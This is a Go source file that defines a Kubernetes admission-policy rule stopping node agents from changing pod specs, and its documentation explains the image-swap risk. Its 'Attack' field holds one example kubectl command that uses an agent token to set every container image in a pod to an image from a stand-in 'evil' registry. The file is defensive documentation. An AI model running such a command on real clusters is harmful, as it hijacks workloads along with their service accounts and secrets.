// Copyright The NodeRestriction-plus Authors.
// SPDX-License-Identifier: Apache-2.0

package rules

import (
	"k8s.io/apimachinery/pkg/util/validation/field"

	"noderestriction.plus/api/v1alpha1"
	"noderestriction.plus/policy"
)

func podSpec() policy.Rule {
	return policy.Rule{
		ID: "pod-spec",
		Doc: policy.Doc{
			Title: "A node agent may not change the spec of pods",
			Text: "An account that may update pods, to annotate them, may also replace their images: the pod then runs the image of an " +
				"attacker with its own service account and secrets. So does an ephemeral container that is added to it.",
			Kubelet: "The rule is for node agents only. An API server refuses a kubelet's update of a pod, except of its status.",
			Attack:  `kubectl --token "$AGENT_TOKEN" set image "pod/$POD" "*=registry.example.com/evil"`,
			Spec:    "spec.pods.spec",
			Fields:  []string{"spec"},
			Since:   "v0.1.0",
			Source:  "kubernetes v1.37.2 pkg/apis/core/validation (ValidatePodUpdate)",
		},
		OptIn:   true,
		Agents:  sameForAgents(podSpecUpdates()),
		Compile: compilePodSpec,
		CEL: policy.CEL{
			Kind: policy.NotAtAll, Strictest: "{}", Touches: touchesNothing, Why: "it is for node agents, whose writes the webhook alone evaluates",
		},
	}
}

func compilePodSpec(spec *v1alpha1.NodeRestrictionPolicySpec, _ *field.Path) (policy.Check, field.ErrorList) {
	if spec.Pods.Spec == nil {
		return nil, nil
	}
	return frozen("spec"), nil
}
